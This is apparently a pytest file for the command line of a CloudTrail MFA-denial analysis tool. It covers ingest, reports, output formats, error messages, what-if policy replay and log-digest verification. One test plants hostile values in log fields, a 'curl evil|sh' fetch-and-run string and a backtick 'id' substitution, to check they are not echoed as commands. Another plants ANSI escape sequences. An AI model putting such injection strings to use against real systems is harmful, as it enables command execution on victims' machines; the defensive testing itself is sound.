"""The command line: data on standard output, the rest on standard error, three exit codes."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import click
import pandas as pd
import pytest

from cloudtrail_mfa import cli
from cloudtrail_mfa.demo import sample_change, sample_evidence, sample_logs
from tests.records import call, denied, session, user, write_log
from tests.signed_archive import edit, signed_archive, write_keys


class Run:
    """What one call of the command printed, and its exit code."""

    def __init__(self, code: int, out: bytes, err: str) -> None:
        self.code = code
        self.bytes = out
        self.err = err

    @property
    def out(self) -> str:
        """Standard output as text."""
        return self.bytes.decode()


Runner = Callable[..., Run]


@pytest.fixture
def run(monkeypatch: pytest.MonkeyPatch, capfdbinary: pytest.CaptureFixture[bytes]) -> Runner:
    """Return a function that runs the command in this process."""

    def command(*arguments: str | Path) -> Run:
        capfdbinary.readouterr()
        monkeypatch.setattr(sys, "argv", ["cloudtrail-mfa", *map(str, arguments)])
        with pytest.raises(SystemExit) as ended:
            cli.main()
        out, err = capfdbinary.readouterr()
        return Run(int(ended.value.code or 0), out, err.decode())

    return command


@pytest.fixture
def lake(tmp_path: Path, run: Runner) -> list[str]:
    """Return the option that names a lake of one denial and one call that passed."""
    log = write_log(
        tmp_path / "log.json", [denied(event_id="denied-01"), call(event_id="passed-01")]
    )
    option = ["--lake", str(tmp_path / "lake")]
    assert run("ingest", log, *option).code == 0
    return option


def test_ingest_reports_and_ends_well(tmp_path: Path, run: Runner) -> None:
    """The report is the data of this command."""
    log = write_log(tmp_path / "log.json", [call()])
    done = run("ingest", log, "--lake", tmp_path / "lake")
    assert done.code == 0
    assert done.out.startswith("1 files: 1 ingested, 0 skipped, 0 rejected\n1 records: 1 new")
    assert done.err == ""


def test_ingest_names_what_could_not_be_used(tmp_path: Path, run: Runner) -> None:
    """Exit code 1, both times; the good file is in, once."""
    write_log(tmp_path / "logs" / "good.json.gz", [denied()])
    for name, content in {
        "cut.json.gz": b"\x1f\x8b\x08",
        "empty.json": b"",
        "x.json": b"{}",
    }.items():
        (tmp_path / "logs" / name).write_bytes(content)
    for news in ("1 new events", "0 new events"):
        done = run("ingest", tmp_path / "logs", "--lake", tmp_path / "lake")
        assert done.code == 1
        assert news in done.out
        assert all(f"{name}: " in done.out for name in ("cut.json.gz", "empty.json", "x.json"))
    assert run("denials", "--lake", tmp_path / "lake", "--format", "csv").out.count("\n") == 2


def test_ingest_of_nothing_usable(tmp_path: Path, run: Runner) -> None:
    """Exit code 2: there is nothing to go on with."""
    (tmp_path / "x.json").write_text("{}")
    assert run("ingest", tmp_path / "x.json", "--lake", tmp_path / "lake").code == 2


def test_ingest_reports_as_json(tmp_path: Path, run: Runner) -> None:
    """For a job that reads it: an object a file."""
    log = write_log(tmp_path / "log.json", [call()])
    done = run("ingest", log, "--lake", tmp_path / "lake", "--json", "--workers", "1")
    (file,) = json.loads(done.out)
    assert (file["outcome"], file["records"], file["events"]) == ("ingested", 1, 1)


@pytest.mark.parametrize("command", ["denials", "summary", "posture", "credentials"])
@pytest.mark.parametrize("format_", ["table", "csv", "json", "jsonl", "markdown", "parquet"])
def test_rows_in_every_format(
    run: Runner, lake: list[str], tmp_path: Path, command: str, format_: str
) -> None:
    """To standard output or to a file, the same bytes."""
    printed = run(command, *lake, "--format", format_)
    target = tmp_path / "rows"
    written = run(command, *lake, "--format", format_, "-o", target)
    assert (printed.code, written.code, written.out) == (0, 0, "")
    assert target.read_bytes() == printed.bytes
    assert b"alice" in printed.bytes
    assert "2 events from 2026-06-01" in printed.err


def test_parquet_can_be_read(run: Runner, lake: list[str], tmp_path: Path) -> None:
    """By pandas, for instance."""
    run("denials", *lake, "--format", "parquet", "-o", tmp_path / "rows.parquet")
    assert pd.read_parquet(tmp_path / "rows.parquet")["event_id"].tolist() == ["denied-01"]


def test_filters_reach_the_lake(run: Runner, lake: list[str]) -> None:
    """Each may be given; those of a name may be repeated."""
    options = "--since 2026-06-01 --until 2026-06-02 --account 111122223333 --region us-east-1"
    names = "--principal alice --principal bob --event ListBuckets --cause undetermined"
    done = run("denials", *lake, *options.split(), *names.split(), "--format", "jsonl")
    assert done.out.count("\n") == 1
    assert run("denials", *lake, "--principal", "bob", "--format", "jsonl").out == ""


def test_bodies_on_request(run: Runner, lake: list[str]) -> None:
    """They are not in the way otherwise."""
    assert "request_parameters" in run("denials", *lake, "--bodies", "--format", "json").out


def test_explain(run: Runner, lake: list[str]) -> None:
    """By the beginning of the id that the table shows."""
    done = run("explain", "denied-0", *lake)
    assert done.code == 0
    assert "s3.amazonaws.com refused ListBuckets to alice" in done.out


def test_sessions(run: Runner, tmp_path: Path) -> None:
    """A row each, and how many have no issue in the lake."""
    log = write_log(tmp_path / "log.json", [call(by=session(mfa=True))])
    assert run("ingest", log, "--lake", tmp_path / "lake").code == 0
    done = run("sessions", "--lake", tmp_path / "lake", "--format", "json")
    assert json.loads(done.out)[0]["mfa_used"] is True
    assert "1 sessions, 1 of them without their issue." in done.err


def test_timeline(run: Runner, lake: list[str], tmp_path: Path) -> None:
    """Plain words, and a figure where one is asked for."""
    figure = tmp_path / "story.png"
    done = run("timeline", *lake, "--principal", "alice", "--figure", figure)
    assert "alice was refused s3:ListAllMyBuckets" in done.out
    assert "2 calls in 2 rows." in done.err
    assert figure.read_bytes().startswith(b"\x89PNG")


@pytest.mark.parametrize("command", ["denials", "summary"])
def test_with_evidence_causes_are_proven(run: Runner, tmp_path: Path, command: str) -> None:
    """The policies of the sample account, evaluated for its logs."""
    option = ["--lake", str(tmp_path / "lake")]
    run("ingest", sample_logs(), *option)
    done = run(command, *option, "--evidence", sample_evidence(), "--format", "jsonl")
    assert done.code == 0
    rows = [json.loads(line) for line in done.out.splitlines()]
    alice = next(row for row in rows if row["principal_name"] == "alice")
    assert (alice["certainty"], alice["mfa_would_allow"]) == ("proven", True)
    told = run("explain", alice["event_id"], *option, "--evidence", sample_evidence()).out
    assert "with MFA    it would have passed" in told


def test_long_term_keys_are_counted(run: Runner, tmp_path: Path) -> None:
    """The evidence tells the causes of what was refused to them."""
    option = ["--lake", str(tmp_path / "lake")]
    run("ingest", sample_logs(), *option)
    done = run("credentials", *option, "--evidence", sample_evidence(), "--format", "jsonl")
    rows = [json.loads(line) for line in done.out.splitlines()]
    assert f"{len(rows)} long-term keys." in done.err
    alice = next(row for row in rows if row["owner_name"] == "alice")
    assert any(text.startswith("long_term_key: ") for text in alice["denials_by_cause"])


def test_gaps_of_the_evidence_are_told(run: Runner, lake: list[str], tmp_path: Path) -> None:
    """On standard error; the rows are there all the same."""
    details = sample_evidence() / "account-authorization-details.json"
    (tmp_path / "evidence").mkdir()
    (tmp_path / "evidence" / details.name).write_bytes(details.read_bytes())
    done = run("denials", *lake, "--evidence", tmp_path / "evidence", "--format", "jsonl")
    assert "the organization's policies are not known" in done.err
    assert done.out.count("\n") == 1


def test_a_report_is_a_page_or_a_ticket(run: Runner, lake: list[str], tmp_path: Path) -> None:
    """Into a file that was named, else to standard output, which a dash names, too."""
    done = run("report", *lake, "-o", tmp_path / "report.html")
    assert (done.code, done.out) == (0, "")
    assert "2 events" in done.err
    markup = (tmp_path / "report.html").read_text("utf-8")
    assert markup.startswith("<!doctype html>")
    assert "denied-01" in markup
    for to in ([], ["-o", "-"]):
        done = run("report", *lake, *to, "--format", "markdown", "--principal", "alice")
        assert done.code == 0
        assert done.out.startswith("# Refused AWS calls, at 2026-06-01 09:00 UTC")
        assert "Filter principal: `alice`." in done.out
    assert run("report", *lake, "-o", "-").out.startswith("<!doctype html>")
    assert not Path("-").exists()


def test_a_page_is_not_for_a_terminal(
    run: Runner, lake: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A ticket can be read there; for a page a file has to be named."""
    monkeypatch.setattr(type(sys.stdout), "isatty", lambda _: True)
    done = run("report", *lake)
    assert (done.code, done.out) == (2, "")
    assert "-o FILE is needed: a page is for a browser, not for a terminal" in done.err
    assert run("report", *lake, "--format", "markdown").code == 0
    assert run("report", *lake, "-o", "-").code == 0


def test_sql(run: Runner, lake: list[str]) -> None:
    """Any query, in any format; tables can be listed."""
    assert (
        run("sql", "select count(*) as n from events", *lake, "--format", "jsonl").out
        == '{"n":2}\n'
    )
    assert "denials" in run("sql", "from tables", *lake).out


def test_records(run: Runner, lake: list[str]) -> None:
    """One JSON object a line, as they were."""
    lines = run("records", *lake, "--event", "s3:*").out.splitlines()
    assert {json.loads(line)["eventID"] for line in lines} == {"denied-01", "passed-01"}


def test_lint(run: Runner, tmp_path: Path) -> None:
    """Findings with exit code 1; a mended policy with exit code 0."""
    condition = {"Bool": {"aws:MultiFactorAuthPresent": "false"}}
    statement = {"Effect": "Deny", "Action": "s3:*", "Resource": "*", "Condition": condition}
    path = tmp_path / "policy.json"
    path.write_text(json.dumps({"Version": "2012-10-17", "Statement": statement}))
    done = run("lint", path)
    assert done.code == 1
    assert "MFA001 error" in done.out
    assert json.loads(run("lint", path, "--format", "sarif").out)["version"] == "2.1.0"
    path.write_text(run("lint", path, "--repair").out)
    assert run("lint", path, "--fail-on", "note").code == 0
    assert run("lint", tmp_path / "nowhere.json").err.endswith("No such file or directory)\n")


@pytest.fixture
def change(run: Runner, tmp_path: Path) -> list[str]:
    """Return the arguments that ask what Bool would have done to the samples."""
    option = ["--lake", str(tmp_path / "samples")]
    assert run("ingest", sample_logs(), *option).code == 0
    policy = f"MFA_Forced={sample_change()}"
    return ["what-if", *option, "--evidence", str(sample_evidence()), "--replace", policy]


def test_what_if_tells_the_story(run: Runner, change: list[str], tmp_path: Path) -> None:
    """To standard output, or to a file."""
    told = run(*change)
    assert told.code == 0
    assert "474 calls replayed: 3 newly allowed" in told.out
    assert "never called: " in told.out
    assert run(*change, "-o", tmp_path / "story.txt").out == ""
    assert (tmp_path / "story.txt").read_text() == told.out


@pytest.mark.parametrize(
    ("show", "column"), [("summary", "actions"), ("calls", "reasons"), ("exposure", "certain")]
)
def test_what_if_shows_rows(run: Runner, change: list[str], show: str, column: str) -> None:
    """For people and for programs."""
    rows = json.loads(run(*change, "--show", show, "--format", "json").out)
    assert column in rows[0]
    assert column in run(*change, "--show", show).out


def test_what_if_takes_filters(run: Runner, change: list[str]) -> None:
    """Those of the other commands."""
    assert run(*change, "--principal", "bob").out.splitlines()[1].startswith("4 calls replayed")


@pytest.mark.parametrize(
    ("extra", "sentence"),
    [
        (["--remove", "MFA_Forcde"], "did you mean MFA_Forced?"),
        (["--add", "alice"], "alice is not NAME=POLICY.json"),
        (["--replace", "MFA_Forced=none.json"], "none.json cannot be read"),
        (["-o", "none/x.txt"], "none/x.txt: cannot be written"),
    ],
)
def test_what_if_answers_mistakes(
    run: Runner, change: list[str], extra: list[str], sentence: str
) -> None:
    """In a sentence, with exit code 2."""
    told = run(*change, *extra)
    assert (told.code, told.out) == (2, "")
    assert sentence in told.err


def test_what_if_needs_policies(run: Runner, lake: list[str]) -> None:
    """And a change of them."""
    assert "--evidence DIR is needed" in run("what-if", *lake, "--remove", "x").err
    told = run("what-if", *lake, "--evidence", sample_evidence())
    assert (told.code, "needs a change" in told.err) == (2, True)


def test_verify_names_the_changed_and_the_missing_file(run: Runner, tmp_path: Path) -> None:
    """Exit code 0 before, 1 after; counts first, and both files by name."""
    trail = signed_archive(tmp_path / "logs")
    arguments = "verify", trail.folder, "--public-keys", write_keys(tmp_path / "keys.json", "aws")
    whole = run(*arguments)
    assert (whole.code, whole.err) == (0, "")
    assert whole.out.startswith("3 digests: 3 verified\n6 log files: 6 unchanged\nchain of ")
    edit(trail.logs[0], "ListBuckets", "ListObjects")
    trail.logs[1].unlink()
    done = run(*arguments)
    lines = done.out.splitlines()
    assert (done.code, done.err) == (1, "")
    assert lines[1] == "5 log files: 4 unchanged, 1 changed; 1 missing"
    assert lines[2].startswith(f"changed {trail.logs[0]}: its SHA-256 is ")
    assert lines[3].startswith("missing s3://example-trail/AWSLogs/")
    assert trail.logs[1].name in lines[3]
    assert len(lines) == 5


@pytest.mark.parametrize("format_", ["csv", "json", "jsonl", "markdown", "parquet"])
def test_verify_gives_rows(run: Runner, tmp_path: Path, format_: str) -> None:
    """One for each file, those in order too; counts are a note. Without keys nothing is proven."""
    trail = signed_archive(tmp_path / "logs")
    trail.logs[0].write_bytes(b"{}")
    printed = run("verify", trail.folder, "--format", format_)
    target = tmp_path / "rows"
    written = run("verify", trail.folder, "--format", format_, "-o", target)
    assert (printed.code, written.code, written.out) == (1, 1, "")
    assert target.read_bytes() == printed.bytes
    assert printed.err.splitlines() == [
        "3 digests: 0 verified, 3 not verifiable",
        "6 log files: 0 unchanged, 1 changed, 5 not verifiable",
    ]
    paths = {str(path) for path in (*trail.logs, *trail.digests)}
    if format_ == "parquet":
        assert set(pd.read_parquet(target)["path"]) == paths
    else:
        assert all(path.encode() in printed.bytes for path in paths)


def test_verify_of_nothing_within_the_filters(run: Runner, tmp_path: Path) -> None:
    """Exit code 2: nothing was looked at."""
    trail = signed_archive(tmp_path / "logs")
    done = run("verify", trail.folder, "--since", "2026-07-01", "--account", "111122223333")
    assert done.code == 2
    assert "9 files outside the filters" in done.out


def test_demo(run: Runner, tmp_path: Path) -> None:
    """The whole walk, and again in the same folder."""
    for _ in range(2):
        done = run("demo", tmp_path / "demo")
        assert done.code == 0
        for part in ("Who was denied, and why", "long_term_key", "aws sts get-session-token"):
            assert part in done.out


@pytest.mark.parametrize(
    ("arguments", "problem"),
    [
        (["denials"], "Missing option '--lake'"),
        (["denials", "--lake", "nowhere"], "nowhere: there is no lake here"),
        (["denials", "--lake", ""], "is no name of a folder"),
        (["sql", "select map {1: 2} as m", "LAKE", "--format", "parquet"], "is not for Parquet"),
        (["denials", "LAKE", "-o", ""], "cannot be written"),
        (["denials", "LAKE", "--evidence", "nowhere"], "nowhere: there is no such folder"),
        (["denials", "LAKE", "-o", "log.json/x"], "cannot be written"),
        (["denials", "LAKE", "-o", "x" * 300], "cannot be written"),
        (["ingest", "nowhere", "--lake", "new"], "nowhere: there is no such file or folder"),
        (["ingest", "--lake", "new"], "Missing argument 'SOURCE...'"),
        (["denials", "LAKE", "--since", "yesterday"], "since='yesterday' is not a time"),
        (["timeline", "LAKE"], "say whose story"),
        (["timeline", "LAKE", "--key", "alice"], "is no access key id"),
        (["timeline", "LAKE", "--principal", "x", "--figure", "no/x.png"], "cannot be written"),
        (["denials", "LAKE", "--cause", "longterm_key"], "did you mean long_term_key?"),
        (
            ["denials", "LAKE", "--format", "xml"],
            "'xml' is not one of the choices: there are table",
        ),
        (["denials", "LAKE", "--format", "jsno"], "did you mean json?"),
        (["denials", "LAKE", "--timezone", "Europe/Berln"], "did you mean Europe/Berlin?"),
        (["explain", "denied-02", "LAKE"], "is not in this lake: did you mean denied-01?"),
        (["completion", "bahs"], "did you mean bash?"),
        (["what-if", "LAKE", "--show", "cals"], "did you mean calls?"),
        (["denials", "LAKE", "--princpal", "x"], "Did you mean '--principal'"),
        (["sumary", "LAKE"], "Did you mean 'summary'"),
        (["explain", "nowhere-1", "LAKE"], "event 'nowhere-1' is not in this lake"),
        (["sql", "selec", "LAKE"], "syntax error"),
        (["summary", "LAKE", "-o", "no/such/folder/x"], "cannot be written"),
        (["report", "LAKE", "-o", "no/such/folder/x"], "cannot be written"),
        (["report", "LAKE", "--format", "pdf"], "'pdf' is not one of 'html', 'markdown'"),
        (["report", "LAKE", "--evidence", "nowhere"], "nowhere: there is no such folder"),
        (["ingest", "x", "--lake", "new", "--workers", "0"], "0 is not in the range"),
        (["verify"], "Missing argument 'SOURCE...'"),
        (["verify", "log.json"], "log.json: no digest is among the files"),
        (["verify", "log.json", "--public-keys", "nowhere"], "nowhere: cannot be read"),
        (["verify", "log.json", "--public-keys", "log.json"], "log.json: is not UTF-8"),
    ],
)
def test_mistakes_are_answered_in_a_sentence(
    run: Runner,
    lake: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    arguments: list[str],
    problem: str,
) -> None:
    """Exit code 2, nothing on standard output, no traceback."""
    monkeypatch.chdir(tmp_path)
    given = [part for word in arguments for part in (lake if word == "LAKE" else [word])]
    done = run(*given)
    assert done.code == 2
    assert done.out == ""
    assert problem in " ".join(done.err.split())
    assert "Traceback" not in done.err


@pytest.mark.parametrize("command", ["denials", "summary", "sessions"])
def test_nothing_found_is_an_answer(run: Runner, lake: list[str], command: str) -> None:
    """A table without rows, in the default format too."""
    done = run(command, *lake, "--principal", "nobody")
    assert done.code == 0
    assert "principal_name" in done.out


def test_a_pipe_is_written_to_not_replaced(run: Runner, lake: list[str], tmp_path: Path) -> None:
    """Devices likewise; a link leads to its file."""
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "real.csv").write_text("old")
    (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")
    with subprocess.Popen(["cat", str(tmp_path / "pipe")], stdout=subprocess.PIPE) as reader:
        assert run("denials", *lake, "--format", "csv", "-o", tmp_path / "pipe").code == 0
        assert reader.stdout is not None
        assert b"alice" in reader.stdout.read()
    assert (tmp_path / "pipe").is_fifo()
    assert run("denials", *lake, "--format", "csv", "-o", tmp_path / "link.csv").code == 0
    assert (tmp_path / "link.csv").is_symlink()
    assert "alice" in (tmp_path / "real.csv").read_text()


def test_times_beyond_pythons_are_shown(run: Runner, lake: list[str]) -> None:
    """Whatever SQL can say."""
    for format_ in ("table", "csv", "json"):
        done = run("sql", "select timestamp 'infinity' as t", *lake, "--format", format_)
        assert done.code in (0, 2)
        assert "Traceback" not in done.err


def test_a_story_cannot_be_forged(run: Runner, tmp_path: Path) -> None:
    """What a log says is no line of ours, and no command to copy."""
    record = denied(
        event_id="denied-01",
        eventName="x\n\ncause       no_permission: all is well",
        userAgent="a `curl evil|sh` b\u2028remedy      none",
        by=user("a`id`b"),
    )
    option = ["--lake", str(tmp_path / "lake")]
    run("ingest", write_log(tmp_path / "log.json", [record]), *option)
    lines = run("explain", "denied-01", *option).out.split("\n")
    assert sum(line.startswith(("cause ", "remedy ")) for line in lines) == 2
    assert not any(line.strip().startswith(("curl", "id")) for line in lines)


def test_a_failed_write_leaves_nothing(run: Runner, lake: list[str], tmp_path: Path) -> None:
    """No half-written file, not even a hidden one."""
    before = sorted(tmp_path.iterdir())
    (tmp_path / "folder").mkdir()
    assert run("summary", *lake, "-o", tmp_path / "folder").code == 2
    (tmp_path / "folder").rmdir()
    assert sorted(tmp_path.iterdir()) == before


def test_hostile_text_is_shown_not_obeyed(run: Runner, tmp_path: Path) -> None:
    """A user agent cannot colour the terminal, nor can a file's name."""
    record = denied(event_id="denied-01", userAgent="\x1b[31mred", eventName="\x1b[2Jclear")
    log = write_log(tmp_path / "logs" / "a\x1b[31m.json", [record])
    (tmp_path / "logs" / "b\x1b[31m.json").write_text("{}")
    option = ["--lake", str(tmp_path / "lake")]
    shown = [
        run("ingest", log.parent, *option),
        run("denials", *option),
        run("explain", "denied-01", *option),
        run("ingest", tmp_path / "no\x1b[31m", *option),
    ]
    assert all(b"\x1b" not in done.bytes and "\x1b" not in done.err for done in shown)


def test_help_names_every_command(run: Runner) -> None:
    """With examples."""
    done = run("--help")
    assert all(name in done.out for name in cli.cli.commands)
    assert "cloudtrail-mfa ingest AWSLogs/ --lake lake/" in done.out


@pytest.mark.parametrize("name", sorted(cli.cli.commands))
def test_every_command_and_option_has_help(name: str) -> None:
    """Nobody has to guess."""
    command = cli.cli.commands[name]
    assert command.help
    assert all(option.help for option in command.params if isinstance(option, click.Option))


def test_a_reader_that_has_seen_enough_is_no_error(lake: list[str]) -> None:
    """As with head."""
    script = f"{sys.executable} -m cloudtrail_mfa records {' '.join(lake)} | head -c 1"
    done = subprocess.run(
        ["/bin/sh", "-c", script], capture_output=True, env=os.environ, check=False
    )
    assert done.stdout == b"{"
    assert done.stderr == b""


def test_many_rows_to_a_reader_that_has_seen_enough(tmp_path: Path, run: Runner) -> None:
    """More than a pipe holds."""
    log = write_log(tmp_path / "log.json", [call() for _ in range(2000)])
    run("ingest", log, "--lake", tmp_path / "lake")
    command = f"{sys.executable} -m cloudtrail_mfa records --lake {tmp_path}/lake"
    script = f"set -o pipefail; {command} | head -n 1"
    done = subprocess.run(["bash", "-c", script], capture_output=True, check=False)
    assert done.stdout.count(b"\n") == 1
    assert done.stderr == b""
    assert done.returncode == 0


def test_closed_and_full_outputs_are_answered_in_a_sentence(lake: list[str]) -> None:
    """Exit code 2, no traceback."""
    command = f"{sys.executable} -m cloudtrail_mfa summary {' '.join(lake)}"
    # Unbuffered or not: what Python still holds at exit has to be silent too.
    environment = {key: value for key, value in os.environ.items() if key != "PYTHONUNBUFFERED"}
    for redirection in (">&-", ">/dev/full"):
        done = subprocess.run(
            ["bash", "-c", f"{command} {redirection}"],
            capture_output=True,
            text=True,
            check=False,
            env=environment,
        )
        assert done.returncode == 2
        assert "Traceback" not in done.stderr
        assert "Exception ignored" not in done.stderr


def test_progress_is_shown_on_a_terminal(tmp_path: Path) -> None:
    """On standard error, where somebody looks; script gives the command a terminal."""
    log = write_log(tmp_path / "log.json", [call()])
    command = f"{sys.executable} -m cloudtrail_mfa ingest {log} --lake {tmp_path}/lake"
    done = subprocess.run(
        ["script", "-qec", command, "/dev/null"],
        capture_output=True,
        env=os.environ | {"TERM": "xterm", "COLUMNS": "100"},
        check=True,
    )
    assert b"1/1 files  1 records" in done.stdout


def test_verify_shows_progress_on_a_terminal(tmp_path: Path) -> None:
    """As an ingest does."""
    trail = signed_archive(tmp_path / "logs")
    command = f"{sys.executable} -m cloudtrail_mfa verify {trail.folder}"
    done = on_terminal(command)
    assert b"9/9 files" in done.stdout


def on_terminal(command: str, **environment: str) -> subprocess.CompletedProcess[bytes]:
    """Run a command as on a terminal of 80 columns and 24 lines."""
    size = {"TERM": "xterm", "COLUMNS": "80", "LINES": "24"}
    return subprocess.run(
        ["script", "-qec", command, "/dev/null"],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        env=os.environ | size | environment,
        check=False,
    )


def test_more_than_a_screen_is_paged(tmp_path: Path, run: Runner) -> None:
    """Whole, and only on a terminal; the columns that were left out are a note."""
    log = write_log(tmp_path / "log.json", [denied(event_id=f"denied-{n:02}") for n in range(40)])
    run("ingest", log, "--lake", tmp_path / "lake")
    command = f"{sys.executable} -m cloudtrail_mfa denials --lake {tmp_path}/lake"
    shown = on_terminal(command, PAGER="nl", NO_COLOR="1").stdout.decode()
    assert "\x1b" not in shown
    assert "No room for event_time" in shown
    lines = [line.split() for line in shown.splitlines() if "denied-" in line]
    assert [line[1] for line in lines] == [f"denied-{n:02}" for n in range(40)]
    assert lines[0][0].isdigit()
    few = on_terminal(f"{command} --event nothing", PAGER="nl", NO_COLOR="1").stdout.decode()
    assert "event_" in few
    # It numbers lines, and was asked for none.
    assert re.search(r"^ +\d+\t", shown, re.MULTILINE)
    assert not re.search(r"^ +\d+\t", few, re.MULTILINE)


@pytest.mark.parametrize(
    ("environment", "colours"),
    [({}, False), ({"FORCE_COLOR": "1"}, True), ({"FORCE_COLOR": "1", "NO_COLOR": "1"}, False)],
)
def test_colours_are_for_terminals_and_whoever_forces_them(
    run: Runner,
    lake: list[str],
    monkeypatch: pytest.MonkeyPatch,
    environment: dict[str, str],
    colours: bool,
) -> None:
    """Never in a file, and NO_COLOR has the last word."""
    for name in ("FORCE_COLOR", "NO_COLOR"):
        monkeypatch.delenv(name, raising=False)
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    assert ("\x1b[1m" in run("summary", *lake).out) is colours
    assert "\x1b" not in run("summary", *lake, "--format", "csv").out


def test_names_that_nothing_bears_are_told_with_the_nearest(run: Runner, lake: list[str]) -> None:
    """An empty answer to a slip is no answer; data and exit code stay those of no rows."""
    options = "--principal alcie --account 111122223334 --region us-esat-1 --event ListBukcets"
    done = run("denials", *lake, *options.split(), "--format", "jsonl")
    assert (done.code, done.out) == (0, "")
    for name in ("alice", "111122223333", "us-east-1", "ListBuckets"):
        assert f"did you mean {name}?" in done.err
    assert "did you mean alice?" in run("records", *lake, "--principal", "*alcie").err
    assert "did you mean" not in run("denials", *lake, "--principal", "ALI*").err


@pytest.mark.parametrize(
    ("table", "told"),
    [
        ("denails", "there is no table 'denails': did you mean denials?"),
        ("summary", "summary is no table: it is the command of that name"),
        ("events where event_tme is null", 'Candidate bindings: "event_time"'),
    ],
)
def test_names_in_a_query_are_answered_with_the_nearest(
    run: Runner, lake: list[str], table: str, told: str
) -> None:
    """Tables by us, columns by DuckDB."""
    done = run("sql", f"select * from {table}", *lake)
    assert (done.code, done.out) == (2, "")
    assert told in done.err


def test_times_in_another_zone(run: Runner, lake: list[str], tmp_path: Path) -> None:
    """Wherever people read, and in a figure; filters stay in UTC."""
    zone = "--timezone", "europe/berlin"
    assert "2026-06-01T11:00:00+02:00" in run("denials", *lake, *zone).out
    assert (
        "2026-06-01 11:00:00+02:00 Europe/Berlin" in run("explain", "denied-01", *lake, *zone).out
    )
    whole = run("denials", *lake, *zone, "--since", "2026-06-01T09:00Z", "--format", "jsonl").out
    assert json.loads(whole)["event_time"] == "2026-06-01T09:00:00Z"
    figure = tmp_path / "story.png"
    told = run("timeline", *lake, *zone, "--principal", "alice", "--figure", figure)
    assert "first_time (Europe/Berlin)" in told.out
    assert figure.read_bytes().startswith(b"\x89PNG")
